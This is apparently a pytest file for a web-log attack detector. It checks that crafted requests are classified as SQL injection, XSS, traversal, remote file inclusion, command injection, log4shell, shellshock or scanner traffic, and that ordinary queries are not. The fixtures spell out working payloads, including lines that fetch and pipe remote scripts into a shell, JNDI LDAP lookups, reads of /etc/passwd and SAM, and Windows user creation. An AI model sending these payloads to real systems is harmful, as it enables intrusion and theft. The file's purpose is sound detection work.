"""inspect() family by family on crafted requests, the decoders, and the libinjection
extension checked against libinjection's own unit tests."""

from __future__ import annotations

import re

import pytest
from conftest import FIXTURES

from agent.detect.http import HttpRequest
from agent.detect.injection import FAMILIES, Finding, _libinjection, inspect, libinj
from agent.detect.injection.decode import (
    base64_text,
    js_unescape,
    normalise,
    seven_bit,
    split_target,
    strip_comments,
    url_decode,
)
from agent.detect.injection.structured import fields

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"


def request(target: str = "/", user_agent: str = BROWSER, referer: str = "") -> HttpRequest:
    return HttpRequest(
        client_ip="198.51.100.23",
        time=None,
        method="GET",
        target=target,
        protocol="HTTP/1.1",
        status=200,
        size=0,
        user_agent=user_agent,
        referer=referer,
        vhost=None,
        request_line=f"GET {target} HTTP/1.1",
        location=None,
    )


def families(target: str = "/", user_agent: str = BROWSER, referer: str = "") -> set[str]:
    return {f.family for f in inspect(request(target, user_agent, referer))}


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        # SQL injection: libinjection per parameter value, after decoding
        ("/item.php?id=1%27%20or%20%271%27%3D%271", {"sqli"}),
        ("/item.php?id=1+UNION+ALL+SELECT+NULL%2Cversion()--", {"sqli"}),
        ("/item.php?id=%2531%2527%2520or%25201%253D1--", {"sqli"}),  # double-encoded
        ("/item.php?id=1;waitfor%20delay%20%270:0:5%27--", {"sqli"}),
        # XSS: libinjection's HTML5 tokenizer, entities, IIS %u, full-width brackets
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", {"xss"}),
        ("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", {"xss"}),
        ("/search?q=%26lt%3Bsvg%20onload%3Dalert(1)%26gt%3B", {"xss"}),
        ("/search?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", {"xss"}),
        ("/search?q=';alert(String.fromCharCode(88))//", {"xss"}),
        # traversal in every encoding, and system files
        ("/download?file=../../../../etc/passwd", {"traversal"}),
        ("/download?file=..%5c..%5cwindows%5cwin.ini", {"traversal"}),
        ("/download?file=%252e%252e%252fapp.conf", {"traversal"}),
        ("/download?file=..%c0%af..%c0%afapp.conf", {"traversal"}),
        ("/download?file=..%e0%80%af..%e0%80%afapp.conf", {"traversal"}),
        ("/download?file=..%u2215..%u2215app.conf", {"traversal"}),
        ("/%2e%2e/%2e%2e/etc/shadow", {"traversal"}),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", {"traversal"}),
        # LFI / RFI
        ("/index.php?page=php://filter/convert.base64-encode/resource=index", {"lfi_rfi"}),
        ("/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2B", {"lfi_rfi"}),
        ("/index.php?page=expect://id", {"lfi_rfi"}),
        ("/index.php?page=http://203.0.113.66/shell.txt", {"lfi_rfi"}),
        ("/index.php?lang=https://evil.example/x.txt?", {"lfi_rfi"}),
        # command injection
        ("/ping.php?host=127.0.0.1;id", {"cmdi"}),
        ("/ping.php?host=127.0.0.1%7Ccat%20/etc/passwd", {"cmdi", "traversal"}),
        ("/ping.php?host=$(whoami)", {"cmdi"}),
        ("/ping.php?host=%60uname%20-a%60", {"cmdi"}),
        ("/ping.php?host=x%26%26wget%20http://203.0.113.66/x.sh", {"cmdi"}),
        ("/ping.php?host=;uname${IFS}-a", {"cmdi"}),
        ("/ping.php?host=;w'h'o'am'i", {"cmdi"}),
        # PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577)
        ("/index.php?-s", {"php_cgi"}),
        (
            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            {"php_cgi", "lfi_rfi"},
        ),
        (
            "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            {"php_cgi", "lfi_rfi"},
        ),
        # log4shell, plain and with nested lookups
        ("/?x=${jndi:ldap://203.0.113.66/a}", {"jndi"}),
        ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh%2Fa%7D", {"jndi"}),
        ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}", {"jndi"}),
        ("/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/a}", {"jndi"}),
        # sensitive files and admin panels
        ("/.env", {"sensitive_file"}),
        ("/.git/config", {"sensitive_file"}),
        ("/site/.svn/entries", {"sensitive_file"}),
        ("/wp-config.php.bak", {"sensitive_file"}),
        ("/backup.tar.gz", {"sensitive_file"}),
        ("/db/dump.sql", {"sensitive_file"}),
        ("/phpMyAdmin/index.php", {"sensitive_file"}),
        ("/adminer-4.8.1.php", {"sensitive_file"}),
        ("/server-status", {"sensitive_file"}),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {"sensitive_file"}),
    ],
)
def test_attack_targets(target: str, expected: set[str]) -> None:
    assert families(target) == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        # SQL: the MySQL double-quote context, a continuation of a comparison, tautologies,
        # a quote that ends the statement, statements, PostgreSQL casts and JSON operators
        ("/item.php?id=1%22+or+%221%22%3D%221", {"sqli"}),
        ("/item.php?id=or+1%3D1--", {"sqli"}),
        ("/item.php?id=1+AND+1083%3D1083", {"sqli"}),
        ("/item.php?id=hi+or+a%3Da", {"sqli"}),
        ("/item.php?id=admin%27--", {"sqli"}),
        ("/login?email=admin%40example.com%27%3B", {"sqli", "sqli_probe"}),
        ("/item.php?id=1%3BDROP+TABLE+users--", {"sqli"}),
        ("/item.php?id=copy+t+from+%27%2Fetc%2Fpasswd%27", {"sqli", "traversal"}),
        ("/item.php?id=password%3A%3Aint", {"sqli"}),
        ("/item.php?id=OR+%27%7B%22b%22%3A2%7D%27%3A%3Ajsonb+%3C%40+%27%7B%7D%27", {"sqli"}),
        ("/item.php?id=%2F*!50000select*%2F+1", {"sqli"}),
        ("/item.php?id=1.e(ascii)", {"sqli"}),
        ("/item.php?id=database()", {"sqli", "sqli_probe"}),
        # NoSQL operators in a parameter name and in a JSON member
        ("/show.php?u_id%5B%24ne%5D=2", {"sqli"}),
        ("/api?filter=%7B%22user%22%3A%7B%22%24where%22%3A%221%22%7D%7D", {"sqli"}),
        # XSS: UTF-7, US-ASCII top-bit, tab in a script URL, JavaScript escapes, comments,
        # calls without parentheses, handlers outside a tag, CSS, JSFuck
        ("/search?q=%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-", {"xss"}),
        ("/search?q=%5Cxbcscript%5Cxbealert(1)%5Cxbc%2Fscript%5Cxbe", {"xss"}),
        ("/search?q=%3CIMG+SRC%3D%22jav%09ascript%3Aalert(1)%22%3E", {"xss"}),
        ("/search?q=al%5Cu0065rt(1)", {"xss"}),
        ("/search?q=document%2F*x*%2F.cookie", {"xss"}),
        ("/search?q=%5B%5D.sort.call%60%24%7Balert%7D1%60", {"xss"}),
        ("/search?q=top%5B%22al%22%2B%22ert%22%5D(1)", {"xss"}),
        ("/search?q=%22+onmouseover%3Dalert(1)+x%3D%22", {"xss"}),
        ("/search?q=x%3Aexpression(alert(1))", {"xss"}),
        ("/search?q=%2B!!%5B%5D", {"xss"}),
        # traversal in lenient and exotic encodings, base64, dot-files, kernel files
        ("/f?file=..%c0%2f..%c0%2fetc%2fpasswd", {"traversal"}),
        ("/f?file=..%25c0%25af..%25c0%25afboot.ini", {"traversal"}),
        ("/f?file=%2e%2e%f8%80%80%80%af%2e%2e%f8%80%80%80%afetc", {"traversal"}),
        ("/f?file=..2f..2fetc2fpasswd", {"traversal"}),
        ("/f?file=L2V0Yy9wYXNzd2Q%3D", {"traversal"}),
        ("/f?file=%2F.ssh%2Fid_rsa", {"traversal", "sensitive_file"}),
        ("/f?file=%2Fsys%2Fclass", {"traversal"}),
        ("/get/proc/self/environ", {"traversal"}),
        ("/dl?file=backup.sql.zip", {"sensitive_file"}),
        # command and code injection: pipes into a shell, prefixes, cmd.exe, expansions,
        # templates, PHP, Windows administration
        ("/x?c=%3Bcurl+http%3A%2F%2F203.0.113.5%2Fx+%7C+sh", {"cmdi"}),
        ("/x?c=time+sh+-c+id", {"cmdi"}),
        ("/x?c=%26+FOR+%2FF+%25i+IN+(%27whoami%27)+DO+echo+%25i", {"cmdi"}),
        ("/x?c=IF+%25ERRORLEVEL%25+EQU+2+goto+x", {"cmdi"}),
        ("/x?c=%7Bl%2C-lh%7Ds", {"cmdi"}),
        ("/x?c=%24%5B2%2B2%5D", {"cmdi"}),
        ("/x?c=%2Fetc%2Fpas%5Bs%5Dwd", {"cmdi", "traversal"}),
        ("/x?c=%3Bcat%3C%3C%3C%27%2Fetc%2Fpasswd%27", {"cmdi", "traversal"}),
        ("/x?c=%7B%7B7*7%7D%7D", {"cmdi"}),
        ("/x?c=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B%3F%3E", {"cmdi"}),
        ("/x?c=%7B%24%7Bsystem(%27id%27)%7D%7D", {"cmdi"}),
        ("/x?c=type+%25SYSTEMROOT%25%5Crepair%5CSAM", {"cmdi"}),
        ("/x?c=reg+add+%22HKLM%5CSystem%22+%2Fv+x", {"cmdi"}),
        ("/x?c=net+user+hacker+Pass1+%2Fadd", {"cmdi"}),
        ("/x?c=alias+ls%3Drm", {"cmdi"}),
        # JSON and XML values judged member by member
        (
            "/x?body=%7B%22foo%22%3A%22%24%7B%3A1337%3A-x%24%7D%7Bjndi%3Aldap%3A%2F%2Fh"
            "%2Fa%7D%22%7D",
            {"jndi"},
        ),
        (
            "/x?body=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Croot%3E%3Ca+probe%3D%22cat+%2Fetc"
            "%2Fpasswd%22%2F%3E%3C%2Froot%3E",
            {"cmdi", "traversal"},
        ),
    ],
)
def test_attacks_found_by_decoding_and_new_patterns(target: str, expected: set[str]) -> None:
    assert families(target) == expected


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/blog/tags/puppet?flav=rss20",
        "/search?q=O%27Reilly+books&page=2",  # an apostrophe in a name
        "/search?q=rock+%26+roll%3B+cats+and+dogs",
        "/search?q=select+the+best+one+from+the+list",
        "/news?title=C%2B%2B+%26+Java%3A+a+comparison",
        "/login?next=/account/settings&lang=en",
        "/track?url=https%3A%2F%2Fwww.example.com%2Fpage",
        "/img/logo.png?v=1.2.3",
        "/static/app.min.js?_=1716800000",
        "/.well-known/acme-challenge/abc123",
        "/misc/sample.log",
        "/files/report-2024.zip",
        "/search?q=100%25+cotton%2C+size+M",
        "/api/items?filter%5Bstatus%5D=open&sort=-date",
        "/page?style=color:red",
        # text that looks like SQL, shell or markup to a careless matcher
        "/search?q=select+one+from+the+list",
        "/x?fields=User(login_name),Images(url_170x135)",
        "/x?q=having+fun",
        "/x?q=Tom+and+Jerry",
        "/x?q=price+alert+(weekly)",
        "/x?q=DRESS+WITH+HAT+18%27%3B",
        "/x?q=ansible+tutorial",
        "/x?q=a+or+b",
        "/wiki/Sleep_(film)",
        "/get/javascript-manual/document.cookie",
        "/x?q=%7Bid%7D",
        "/x?q=if+x+%3D%3D+y+then",
        "/x?next=%2Fsearch%3Fq%3Dx",
        "/x?v=1.0..2.0",
        "/x?q=what%3F%3F%3F",
        "/x?q=0.5",
        "/x?q=%22jazz%22+%23music",
        "/x?q=he+said+%22no%22+--+really",
        "/x?tab=error_log",
        "/x?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
        "/api?filter=%7B%22status%22%3A%22open%22%2C%22tags%22%3A%5B%22a%22%5D%7D",
    ],
)
def test_ordinary_targets_are_clean(target: str) -> None:
    assert inspect(request(target)) == []


@pytest.mark.parametrize(
    ("user_agent", "expected"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", {"scanner"}),
        ("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", {"scanner"}),
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            {"scanner"},
        ),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", {"scanner"}),
        ("Mozilla/5.0 zgrab/0.x", {"scanner"}),
        ("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", {"scanner"}),
        (
            "Mozilla/5.0 (X11) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            {"scanner"},
        ),
        ("gobuster/3.6", {"scanner"}),
        ("Fuzz Faster U Fool v2.1.0", {"scanner"}),
        ("() { :; }; /bin/bash -c 'wget http://203.0.113.66/x'", {"shellshock", "cmdi"}),
        ("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}", {"jndi"}),
        ("Mozilla/5.0' or 1=1-- ", {"sqli"}),
        ("<script>alert(document.cookie)</script>", {"xss"}),
        # a browser UA with language tags ("; id", "; U") and an address inside it
        ("Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", set()),
        ("Mozilla/5.0 (compatible; bot from 6.6.6.6 port 22; +http://6.6.6.6/bot)", set()),
        ("curl/8.5.0", set()),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", set()),
    ],
)
def test_user_agents(user_agent: str, expected: set[str]) -> None:
    assert families(user_agent=user_agent) == expected


def test_findings_name_field_and_evidence() -> None:
    findings = inspect(
        request(
            "/item.php?id=1%27+or+%271%27%3D%271",
            user_agent="sqlmap/1.7",
            referer="http://evil.example/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        )
    )
    assert [(f.family, f.field) for f in findings] == [
        ("sqli", "target"),
        ("scanner", "user_agent"),
        ("xss", "referer"),
    ]
    assert findings[0].evidence.startswith("id= 1' or '1'='1")
    assert findings[1] == Finding("scanner", "user_agent", "sqlmap", "certain")


def test_headers_are_decoded_and_the_referer_path_is_judged() -> None:
    assert families(user_agent="Mozilla %3Cscript%3Ealert(1)%3C/script%3E") == {"xss"}
    assert families(referer='https://evil.example/" onmouseover=alert(1) "') == {"xss"}


def test_referer_is_not_judged_as_a_scanner_or_sensitive_path() -> None:
    referer = "https://www.google.com/url?sa=t&url=http://example.org/.env&q=nikto"
    assert families(referer=referer) == set()


def test_families_filter_and_unknown_family() -> None:
    target = "/x.php?id=1%27+or+%271%27%3D%271&f=../../etc/passwd"
    assert {f.family for f in inspect(request(target), families=["traversal"])} == {"traversal"}
    assert inspect(request(target), families=[]) == []
    with pytest.raises(ValueError, match="unknown attack families"):
        inspect(request(target), families=["sqli", "bogus"])
    assert len(FAMILIES) == 14


def test_huge_and_binary_input_is_bounded() -> None:
    target = "/?" + "&".join(f"p{i}=" + "%27" * 2000 for i in range(500))
    ua = "\x00\xff" * 20000 + "() { :; };"
    assert families(target, ua) <= set(FAMILIES)  # returns, no crash


@pytest.mark.parametrize(
    ("raw", "plus", "decoded"),
    [
        ("a%20b+c", False, "a b+c"),
        ("a%20b+c", True, "a b c"),
        ("%2B", True, "+"),
        ("%25252e", False, "."),  # three rounds
        ("%2525252e", False, "%2e"),  # a fourth round is not done
        ("%u002e%u002e%u2215", False, "..\u2215"),
        ("%c0%af%c0%ae%e0%80%af", False, "/./"),  # overlong UTF-8
        ("%c0%2e%c1%1c%f8%80%80%80%af", False, ".\\/"),  # lenient and 5-byte forms
        ("%2522%2Bunion%2Bselect", True, '" union select'),  # "+" decoded again
        ("%e9t%e9", False, "\xe9t\xe9"),  # Latin-1 bytes stay characters
        ("%zz%4", False, "%zz%4"),
        ("caf%C3%A9", False, "caf\xe9"),
    ],
)
def test_url_decode(raw: str, plus: bool, decoded: str) -> None:
    assert url_decode(raw, plus=plus) == decoded


def test_normalise_and_split_target() -> None:
    assert normalise("\uff1cSCRIPT\uff1e..\u2216x\x00") == "<script>..\\x"
    assert split_target("/a%20b/c?x=1+2&flag&=v&y=%3D") == (
        "/a b/c",
        "x=1+2&flag&=v&y=%3D",
        [("x", "1 2"), ("", "flag"), ("", "v"), ("y", "=")],
    )


def test_script_and_sql_readings() -> None:
    assert js_unescape(r"al\u0065rt \x3c \u{3c} \074") == "alert < < <"
    assert strip_comments("uni/**/on /*!50000select*/ 1") == "uni on  select  1"
    assert seven_bit("\xbcscript\xbe") == "<script>"
    assert base64_text("L2V0Yy9wYXNzd2Q=") == "/etc/passwd"
    assert base64_text("password") is None  # decodes to bytes that are not text


def test_structured_fields() -> None:
    assert fields('{"a": {"$ne": 1}, "b": ["x", "<y>"]}') == [
        ("", "a"),
        ("", "$ne"),
        ("", "b"),
        ("b", "x"),
        ("b", "<y>"),
    ]
    assert fields('<?xml version="1.0"?><r><a p="cat &amp; dog">t</a></r>') == [
        ("version", "1.0"),
        ("p", "cat & dog"),
        ("", "t"),
    ]
    assert fields('{"broken": "<script>",') == [("", "broken"), ("", "<script>")]
    assert fields("plain text") == []


def _libinjection_unit_cases() -> list[tuple[str, str, str]]:
    cases = []
    for path in sorted((FIXTURES / "web" / "libinjection-sqli-tests").glob("test-sqli-*.txt")):
        text = path.read_text(encoding="utf-8")
        match = re.search(r"--INPUT--\n(.*?)\n?--EXPECTED--\n(.*)", text, re.S)
        assert match is not None, path
        cases.append((path.name, match.group(1), match.group(2).strip()))
    return cases


def test_binding_reproduces_libinjection_unit_tests() -> None:
    cases = _libinjection_unit_cases()
    assert len(cases) == 50
    for name, given, fingerprint in cases:
        assert (libinj.sqli_fingerprint(given, double_quotes=True) or "") == fingerprint, name


def test_extension_takes_exact_bytes_only() -> None:
    assert _libinjection.sqli(b"1' or '1'='1") == "s&sos"
    assert _libinjection.sqli(b"1' or '1'='1", double_quotes=True) == "s&sos"
    assert _libinjection.sqli(b"") is None
    assert _libinjection.sqli(b"\x00' or 1=1--\x00") is not None  # NUL bytes are data
    assert _libinjection.is_xss(b"<svg onload=alert(1)>") is True
    assert _libinjection.is_xss(b"") is False
    with pytest.raises(TypeError):
        _libinjection.sqli("text")  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        _libinjection.sqli(bytearray(b"1' or 1=1--"))  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        _libinjection.is_xss(memoryview(b"<script>"))  # type: ignore[arg-type]


def test_double_quote_context_is_mysql_only() -> None:
    # PostgreSQL quotes identifiers with ": English text in quotes is no injection there.
    text = 'CHRISTMAS STOCKING "NOT" STUFFER'
    assert libinj.sqli_fingerprint(text, double_quotes=True) == "sos"
    assert libinj.sqli_fingerprint(text) is None
    assert libinj.sqli_fingerprint("1' or '1'='1") == "s&sos"
    assert libinj.is_xss("<img src=x onerror=alert(1)>")
    assert not libinj.is_xss("hello world")
    assert libinj.VERSION == "3.9.2"
